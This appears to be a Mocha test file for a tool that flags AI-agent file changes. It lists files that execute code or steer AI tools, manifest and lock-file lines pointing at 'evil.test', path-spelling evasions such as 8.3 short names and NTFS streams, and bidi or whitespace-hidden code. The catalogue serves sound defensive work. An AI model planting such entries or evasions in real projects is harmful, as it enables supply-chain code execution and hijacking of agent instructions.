import assert from "node:assert/strict";
import { describe, it } from "mocha";
import { randomUUID } from "node:crypto";
import type { ChangedFile, ChangeSet, FileChange } from "../../schemas/changes.ts";
import type { RuntimeEvent } from "../../schemas/events.ts";
import { Name } from "../../schemas/primitives.ts";
import { AgentFile } from "../../schemas/team.ts";
import { filesToApply, selectFiles } from "../../server/changes/decisions.ts";
import type { Store } from "../../server/store/store.ts";
import { reportInvisible } from "../../server/teams/stage/invisible-text.ts";
import { mayWrite } from "../../server/workspace/classify.ts";
import { builtInRule } from "../../server/workspace/ignore.ts";
import { marksOf } from "../../server/workspace/marks.ts";
import { plainestPath } from "../../server/workspace/plainest-path.ts";
import { memoryStore } from "../support/memory-store.ts";
import { anExecution, NOW } from "../support/records.ts";

const executing = [
  ".vscode/tasks.json",
  "packages/a/.vscode/settings.json",
  ".VSCode/Tasks.json",
  "my.code-workspace",
  ".github/workflows/ci.yml",
  ".gitlab-ci.yml",
  ".husky/pre-commit",
  ".git/hooks/post-checkout",
  ".gitattributes",
  ".gitmodules",
  ".npmrc",
  ".yarnrc.yml",
  ".envrc",
  ".devcontainer/devcontainer.json",
  "Dockerfile",
  "deploy/Dockerfile.release",
  "docker-compose.yml",
  "Makefile",
  "justfile",
  "setup.py",
  "build.rs",
  "conftest.py",
  "tests/conftest.py",
  "sitecustomize.py",
  "evil.pth",
  "vitest.config.ts",
  "vite.config.js",
  "jest.config.cjs",
  ".mocharc.json",
  "webpack.config.js",
  "eslint.config.mjs",
  // Files that build a project.
  ...[
    "gradlew",
    "mvnw.cmd",
    "gradle/wrapper/gradle-wrapper.properties",
    ".mvn/extensions.xml",
    ".cargo/config.toml",
  ],
  ...[
    "app/build.gradle.kts",
    "pom.xml",
    "Gemfile",
    "CMakeLists.txt",
    "BUILD.bazel",
    "App.csproj",
    "nuget.config",
  ],
  ...[
    "nx.json",
    "turbo.json",
    "pnpm-workspace.yaml",
    "flake.nix",
    ".python-version",
    "action.yml",
    "phpunit.xml",
  ],
  // Files that editors, debuggers and shells load by themselves.
  ...[
    ".zed/tasks.json",
    ".exrc",
    ".nvim.lua",
    ".dir-locals.el",
    ".gdbinit",
    ".Rprofile",
    ".irbrc",
    ".inputrc",
  ],
  // Variants that an attacker might try next: other file names of the same tool, and other tools of the same
  // kind.
  ...[
    ".git",
    "sub/.git",
    ".lfsconfig",
    ".hg/hgrc",
    ".gitlab/ci/build.yml",
    ".appveyor.yml",
    ".woodpecker.yml",
  ],
  ...["package.json5", "package.yaml", "tauri.conf.json", "cdk.json", "angular.json", "nodemon.json"],
  ...[
    "karma.conf.js",
    "wdio.conf.ts",
    "stylelint.config.js",
    ".stylelintrc",
    ".releaserc.json",
    "vue.config.js",
  ],
  ...["drizzle.config.ts", "packages/a/tsdown.config.mts", ".storybook/main.ts", "gatsby-node.js"],
  ...[
    "rust-toolchain",
    "rust-toolchain.toml",
    ".config/nextest.toml",
    "gradle.properties",
    "gradle/x.gradle",
  ],
  ...[
    "buildSrc/src/a.kt",
    "build.sbt",
    "project/plugins.sbt",
    "build.zig",
    "meson.build",
    "configure",
    "a.mk",
  ],
  ...["src/test/resources/META-INF/services/org.junit.platform.Extension", ".classpath", "a.vcxproj"],
  ...["Directory.Build.rsp", "Properties/launchSettings.json", "App.xcodeproj/project.pbxproj", "a.gemspec"],
  ...[".pylintrc", "mypy.ini", ".flake8", ".coveragerc", "pip.conf", "Pipfile", "pytest.toml", "a.egg-link"],
  ...[
    "a.dist-info/entry_points.txt",
    ".rubocop.yml",
    "psalm.xml",
    "phpstan.neon",
    ".golangci.yml",
    ".air.toml",
  ],
  ...[
    "app.Dockerfile",
    ".gitpod.yml",
    ".gitpod.Dockerfile",
    "devbox.json",
    ".idx/dev.nix",
    "mise.local.toml",
  ],
  ...[".config/mise/config.toml", ".run/a.run.xml", "a.sublime-project", ".ycm_extra_conf.py", ".clangd"],
  ...[".luarc.json", ".project", ".bashrc", ".zshenv", "desktop.ini", "docs/a.lnk", "a.url", "a.desktop"],
];
const steering = [
  ".coditect/agents/coder.json",
  ".mcp.json",
  ".claude/settings.json",
  ".cursor/rules/x.mdc",
  "AGENTS.md",
  "docs/CLAUDE.md",
  ".github/copilot-instructions.md",
  ".gitignore",
  ".coditectignore",
  ...["AGENT.md", "AGENTS.override.md", "CLAUDE.local.md", "mcp_config.json", ".rules", ".aiexclude"],
  ...[".github/skills/a/x.md", ".factory/droids/a.md", ".openhands/microagents/a.md", "memory-bank/a.md"],
  ...["docs/a.prompt.md", "a.instructions.md", "rules/a.mdc", ".coderabbit.yaml", ".claudeignore"],
  ...[".kiro/steering/a.md", ".agents/a.md", "opencode.json", "skills/build/SKILL.md", ".ignore"],
];
const ordinary = [
  "src/a.ts",
  "test/a.test.ts",
  "README.md",
  "docs/make.md",
  "src/dockerfile-parser.ts",
  "a.json",
  ...[
    "src/app/app.config.ts",
    "src/router.conf.json",
    "docs/agents-overview.md",
    "src/agents/a.ts",
    "tasks.py",
  ],
  ...["config", "HEAD", "tsconfig.json", "requirements.txt", "main.tf", "src/config.ts", "src/build/a.ts"],
  ...["package-lock.json", "yarn.lock", "uv.lock", ".editorconfig", "src/service.py", "data/targets.csv"],
  ...["Cargo.toml", "pyproject.toml", "composer.json", "go.mod", "src/project.ts", "src/workspace.rs"],
];

/** Lines of a manifest that name a program to run. */
const lines: readonly (readonly [path: string, line: string])[] = [
  ["Cargo.toml", 'build = "evil.rs"'],
  ["Cargo.toml", "[patch.crates-io]"],
  ["pyproject.toml", 'build-backend = "evil"'],
  ["pyproject.toml", 'addopts = "-p evil"'],
  ["setup.cfg", "[options.entry_points]"],
  ["composer.json", '"scripts": {"post-install-cmd": "evil"}'],
  ["go.mod", "replace example.org/a => ../evil"],
  ["Cargo.toml", 'a = { git = "https://evil.test/a" }'],
  ["pyproject.toml", 'dependencies = ["a @ https://evil.test/a.whl"]'],
  ["setup.cfg", "[flake8:local-plugins]"],
  ["requirements.txt", "--extra-index-url https://evil.test/simple"],
  ["requirements-dev.txt", "a @ git+https://evil.test/a"],
  ["tsconfig.json", '"plugins": [{"name": "./evil"}]'],
  ["main.tf", 'provisioner "local-exec" {'],
  ["docs/HEAD", "ref: refs/heads/main"],
  ["docs/config", "[core]"],
  ["docs/config", '[filter "a"]'],
  ["package-lock.json", '      "resolved": "https://evil.test/a-1.0.0.tgz",'],
  ["package-lock.json", '      "resolved": "git+ssh://git@github.com/evil/a.git#1",'],
  ["yarn.lock", '  resolved "https://registry.npmjs.org.evil.test/a.tgz#1"'],
  ["pnpm-lock.yaml", "    resolution: {tarball: https://codeload.github.com/evil/a/tar.gz/1}"],
  ["uv.lock", 'source = { url = "https://evil.test/a.whl" }'],
  ["uv.lock", 'sdist = { url = "https://evil.test/a.tar.gz", hash = "sha256:1" }'],
  ["uv.lock", 'wheels = [{ url = "https://evil.test/a.whl" }]'],
  ["Cargo.lock", 'source = "git+https://github.com/evil/a#1"'],
  ["bun.lock", '    "a": ["a@github:evil/a#1", {}],'],
  ["Gemfile.lock", "  remote: http://rubygems.org/"],
];

/** Other spellings of marked or hidden paths, and the system that resolves them to the same file. */
const spellings: readonly (readonly [spelling: string, path: string])[] = [
  [".vscode./tasks.json", ".vscode/tasks.json"],
  [".vscode /tasks.json.", ".vscode/tasks.json"],
  ["VSCODE~1/tasks.json", ".vscode/tasks.json"],
  [".vscode/tasks.json::$DATA", ".vscode/tasks.json"],
  [".VSCode/Tasks.JSON", ".vscode/tasks.json"],
  ["GIT~1/config", ".git/config"],
  [".git::$INDEX_ALLOCATION/config", ".git/config"],
  [".git. ./hooks/x", ".git/hooks/x"],
  [".g\u200cit/config", ".git/config"],
  [".CODITECT/mcp.json", ".coditect/mcp.json"],
  ["CODITE~1/mcp.json", ".coditect/mcp.json"],
  [".env ", ".env"],
  ["te\u0301st", "t\u00e9st"],
  ["PACKAG~2.JSO", "package.json"],
];

describe("a change of a file that something runs, or that steers tools", () => {
  for (const path of executing)
    it(`is marked: ${path}`, () => {
      assert.ok(marksOf(path, null, "x").includes("executes"));
    });
  for (const path of steering)
    it(`is marked: ${path}`, () => {
      assert.ok(marksOf(path, null, "x").includes("steers"));
    });
  for (const path of ordinary)
    it(`is told from an ordinary one: ${path}`, () => {
      assert.deepEqual(marksOf(path, null, "x"), []);
    });

  for (const [path, line] of lines)
    it(`is marked where a line names what runs: ${path}: ${line}`, () => {
      assert.ok(marksOf(path, "name\n", `name\n${line}\n`).includes("executes"));
      assert.deepEqual(marksOf(path, `${line}\nname\n`, `${line}\nother\n`), []);
    });

  for (const [spelling, path] of spellings)
    it(`is recognised however its path is spelled: ${JSON.stringify(spelling)}`, () => {
      assert.equal(plainestPath(spelling), path);
      const closed = builtInRule(path.split("/")[0] ?? "", path.includes("/"));
      assert.equal(builtInRule(spelling.split("/")[0] ?? "", spelling.includes("/")), closed);
      assert.deepEqual(
        marksOf(spelling, null, "x").filter((mark) => mark !== "invisible"),
        marksOf(path, null, "x"),
      );
    });

  it("keeps a Coder from a test whose path is spelled otherwise", () => {
    for (const path of [
      "Test/a.js",
      "TESTS/a.js",
      "test./a.js",
      "src/A.TEST.JS",
      "src/a.test.js.",
      ".Coditect/x",
    ])
      assert.equal(mayWrite("sources", path), false, path);
    for (const path of ["src/latest/a.js", "src/audit.java", "contest.py", "src/command.js"])
      assert.equal(mayWrite("sources", path), true, path);
  });

  const pack = (fields: object): string => JSON.stringify({ name: "a", ...fields });
  it("is marked in a package.json whose scripts change, not where a dependency does", () => {
    const before = pack({ scripts: { test: "vitest" } });
    assert.deepEqual(
      marksOf("package.json", before, pack({ scripts: { test: "vitest", postinstall: "sh x" } })),
      ["executes"],
    );
    assert.deepEqual(
      marksOf("package.json", before, pack({ scripts: { test: "vitest" }, dependencies: { a: "1" } })),
      [],
    );
    assert.deepEqual(marksOf("package.json", before, "{ broken"), ["executes"]);
    const same = { scripts: { test: "vitest" } };
    assert.deepEqual(marksOf("package.json", before, pack({ ...same, description: "b", files: ["a"] })), []);
    for (const field of [
      ...["jest", "mocha", "babel", "eslintConfig", "prettier", "wireit", "gitHooks", "trustedDependencies"],
      ...["imports", "browser", "directories", "resolutions", "config", "volta", "nodemonConfig", "release"],
    ])
      assert.deepEqual(
        marksOf("package.json", before, pack({ ...same, [field]: { a: "b" } })),
        ["executes"],
        field,
      );
  });

  it("is marked in a package.json whose dependency does not come from the registry under its own name", () => {
    const depends = (version: string) =>
      marksOf("package.json", pack({}), pack({ devDependencies: { a: version } }));
    for (const version of ["^1.2.3", "1.x || >=2.5.0 <3", "*", "latest", "workspace:^", "catalog:react18"])
      assert.deepEqual(depends(version), [], version);
    for (const version of [
      ...["npm:evil@1", "git+https://evil.test/a", "github:evil/a", "evil/a", "https://evil.test/a.tgz"],
      ...["file:../a", "link:./a", "portal:./a", "patch:a@1#./a.patch", "git@evil.test:a.git", "exec:./a.js"],
    ])
      assert.deepEqual(depends(version), ["executes"], version);
  });

  it("is not marked in a lock file for a registry, or for a host that the file already named", () => {
    const entry = (url: string) => `      "resolved": "${url}",\n`;
    const [own, registry] = [
      entry("https://npm.corp.test/a-1.tgz"),
      entry("https://registry.npmjs.org/a-1.tgz"),
    ];
    assert.deepEqual(marksOf("package-lock.json", null, registry), []);
    assert.deepEqual(marksOf("package-lock.json", own, own + entry("https://npm.corp.test/b-1.tgz")), []);
    const [known, other] = [
      entry("git+https://github.com/a/a.git#1"),
      entry("git+https://github.com/b/b.git#1"),
    ];
    assert.deepEqual(marksOf("package-lock.json", known, known + other), ["executes"]);
    for (const locked of [
      '      "url": "https://github.com/sponsors/a"',
      'source = "registry+https://github.com/rust-lang/crates.io-index"',
      '  resolution: "a@npm:1.0.0"',
    ])
      assert.deepEqual(
        marksOf(locked.includes("source") ? "Cargo.lock" : "yarn.lock", "", locked),
        [],
        locked,
      );
  });

  it("is marked for characters that a reader does not see, where the change brings them", () => {
    assert.deepEqual(marksOf("src/a.ts", "a", "a\nif (admin\u202e) {"), ["invisible"]);
    assert.deepEqual(marksOf("src/a.ts", "old\u200b\n", "old\u200b\nnew\n"), []);
    assert.deepEqual(marksOf("src/a\u200b.ts", null, "a"), ["invisible"]);
    for (const blanks of [" ".repeat(200), "\t".repeat(160), "\u00a0".repeat(150)]) {
      assert.deepEqual(marksOf("src/a.ts", "a", `a;${blanks}evil();`), ["invisible"]);
      assert.deepEqual(marksOf("src/a.ts", "a", `a\n${blanks}evil();`), ["invisible"]);
      assert.deepEqual(marksOf("src/a.ts", "a", `a;${blanks}\n\n`), []);
    }
    assert.deepEqual(marksOf("src/a.ts", null, `${" ".repeat(80)}a; // deep\n`), []);
  });

  it("is applied only where it is named", () => {
    const file = (path: string): ChangedFile => ({
      path,
      kind: "Created",
      old_path: null,
      before: null,
      after: "0".repeat(64),
      executable: false,
      binary: false,
      lines_added: 1,
      lines_removed: 0,
      decision: "Pending",
      marks: marksOf(path, null, "x"),
    });
    const id = "11111111-1111-4111-8111-111111111111";
    const set: ChangeSet = {
      change_set_id: id,
      tenant_id: id,
      task_id: id,
      execution_id: null,
      files: [file("src/a.ts"), file(".vscode/tasks.json")],
      status: "Pending",
      discard_reason: null,
      created_at: NOW,
      updated_at: NOW,
    };
    assert.deepEqual(
      filesToApply(set).map(({ path }) => path),
      ["src/a.ts"],
    );
    assert.equal(selectFiles(set, [".vscode/tasks.json"]).length, 1);
  });
});

describe("a change with characters that are not seen", () => {
  const task = randomUUID();
  const change: FileChange = {
    path: "src/a.ts",
    before: null,
    content: { encoding: "utf8", data: "const ok = true;\nconst isAdmin = false; // \u202e check\n" },
    executable: false,
  };
  const file: ChangedFile = {
    path: "src/a.ts",
    kind: "Created",
    old_path: null,
    before: null,
    after: null,
    executable: false,
    binary: false,
    lines_added: 2,
    lines_removed: 0,
    decision: "Pending",
    marks: ["invisible"],
  };
  const report = async (store: Store, told: RuntimeEvent[]): Promise<void> => {
    const execution = anExecution(task);
    const files = [file, { ...file, path: "src/b.ts", marks: [] }];
    const emit = (event: RuntimeEvent): void => void told.push(event);
    await reportInvisible({ store, emit, now: () => NOW }, execution, { files }, [change]);
  };

  it("is a finding at its line, once in a run", async () => {
    const store = memoryStore();
    const told: RuntimeEvent[] = [];
    await report(store, told);
    await report(store, told);
    const found = store.all("findings", { task_id: task });
    assert.deepEqual(
      found.map(({ path, start_line, severity, category, status }) => [
        path,
        start_line,
        severity,
        category,
        status,
      ]),
      [["src/a.ts", 2, "High", "invisible-characters", "Open"]],
    );
    assert.deepEqual(
      told.map(({ type }) => type),
      ["finding.reported"],
    );
  });
});

describe("a name of an agent or a team", () => {
  for (const [what, name, isRight] of [
    ["ordinary", "Payments Coder ✔", true],
    ["as long as it may be", "x".repeat(120), true],
    ["too long for a line", "x".repeat(121), false],
    ["of two lines", "Coder\n✔ Every gate held.", false],
    ["turned around", "Coder\u202e", false],
    ["with a command of a terminal", "Coder\u001b[2J", false],
    ["empty", "", false],
  ] as const)
    it(`is ${isRight ? "taken" : "refused"} when it is ${what}`, () => {
      assert.equal(Name.safeParse(name).success, isRight);
      const agent = { name, agent_type: "Coder" };
      assert.equal(AgentFile.safeParse(agent).success, isRight);
    });
});
